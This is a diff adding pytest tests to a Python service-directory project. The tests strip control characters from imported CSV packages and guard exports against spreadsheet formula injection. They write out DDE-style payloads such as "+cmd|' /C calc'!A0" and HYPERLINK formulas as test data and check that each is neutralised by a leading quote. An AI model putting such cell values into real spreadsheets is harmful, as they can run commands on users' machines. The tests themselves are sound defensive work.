@@ -6,6 +6,8 @@ import uuid
 from datetime import date, datetime, time
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from rfc3986_validator import validate_rfc3986
 from sqlalchemy import select
 from sqlalchemy.orm import selectinload
@@ -224,6 +226,87 @@ def test_a_changed_published_service_goes_back_to_draft_and_unchanged_ones_stay_
     names = {listing.service.name for listing in services.search_listings(
         services.SearchCriteria(text="respijt", per_page=100)).listings}
     assert "Respijt aan huis" not in names and "Respijt aan huis (nieuw)" not in names
+
+
+def test_control_characters_in_an_imported_package_never_reach_the_database(seeded_app, tmp_path):
+    """An operator's file is outside input too (issue #12): NUL (which PostgreSQL refuses), a form
+    feed or an escape are taken out; the line breaks of a description stay."""
+    hsds_io.export_package(tmp_path)
+    target = db.session.scalars(select(Service).where(Service.slug == "respijt-aan-huis-doorn")).one()
+
+    def poison(rows):
+        for row in rows:
+            if row["id"] == target.uuid:
+                row["name"] = "Respijt\x00 aan\x0c huis\x1b (nieuw)"
+                row["description"] = "Eerste alinea.\n\nTweede\x00 alinea."
+        return rows
+
+    _rewrite(tmp_path, "services.csv", poison)
+    report = hsds_io.import_package(tmp_path, services.search_backend())
+    assert report.back_to_draft == ["Respijt aan huis (nieuw)"]
+    db.session.expire_all()
+    service = db.session.get(Service, target.id)
+    assert service.name == "Respijt aan huis (nieuw)"
+    assert service.description == "Eerste alinea.\n\nTweede alinea."
+
+
+# --- formula injection (issue #12) --------------------------------------------------------------------
+
+@pytest.mark.parametrize("value, cell", [
+    ('=HYPERLINK("https://example.org","klik")', '\'=HYPERLINK("https://example.org","klik")'),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("'=1+1", "''=1+1"),                 # a quote of its own stays after the round trip
+    ("+31 343 000 101", "+31 343 000 101"),   # phone numbers and numbers keep their sign
+    ("-0.5", "-0.5"),
+    ("0343-000101", "0343-000101"),
+    ("Koffie & een praatje", "Koffie & een praatje"),
+    ("'t Hof", "'t Hof"),
+    ("", ""),
+])
+def test_a_cell_that_starts_like_a_formula_gets_a_quote(value, cell):
+    assert hsds_io.formula_safe(value) == cell
+    assert hsds_io.unquote_formula(cell) == value
+
+
+@given(st.text())
+def test_formula_safe_cells_never_start_a_formula_and_come_back_unchanged(text):
+    cell = hsds_io.formula_safe(text)
+    assert cell[:1] not in hsds_io.FORMULA_STARTS or re.fullmatch(r"[+-]?[0-9][0-9 ().+-]*", cell)
+    assert hsds_io.unquote_formula(cell) == text
+
+
+def test_the_import_takes_the_quote_off_that_another_system_put_before_a_formula_character():
+    assert hsds_io.unquote_formula("'+31 343 000 101") == "+31 343 000 101"
+    assert hsds_io.unquote_formula("'=SUM(1)") == "=SUM(1)"
+    assert hsds_io.unquote_formula("'t Hof") == "'t Hof"
+
+
+def test_the_export_neutralises_formulas_and_our_import_gives_the_values_back(seeded_app, tmp_path):
+    service = db.session.scalars(select(Service).where(Service.slug == "respijt-aan-huis-doorn")).one()
+    service.name = '=HYPERLINK("https://example.org/?"&A1,"Respijt")'
+    service.description = "+cmd|' /C calc'!A0"
+    service.summary = "@SUM(1+1)"
+    service.organization.phone = "+31 343 000 101"
+    db.session.commit()
+    hsds_io.export_package(tmp_path)
+
+    cells = []
+    for path in tmp_path.glob("*.csv"):
+        with path.open(encoding="utf-8", newline="") as handle:
+            cells += [cell for row in csv.reader(handle) for cell in row]
+    assert "'=HYPERLINK(\"https://example.org/?\"&A1,\"Respijt\")" in cells
+    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "+31 343 000 101" in cells
+    formulas = [cell for cell in cells if cell[:1] in hsds_io.FORMULA_STARTS
+                and not re.fullmatch(r"[+-]?[0-9][0-9 ().+-]*", cell)]
+    assert formulas == []
+
+    report = hsds_io.import_package(tmp_path, services.search_backend())
+    assert report.problems == [] and dict(report.updated) == {}
+    assert dict(report.unchanged) == {"organization": 59, "location": 62, "service": 164}
 
 
 FOREIGN = {
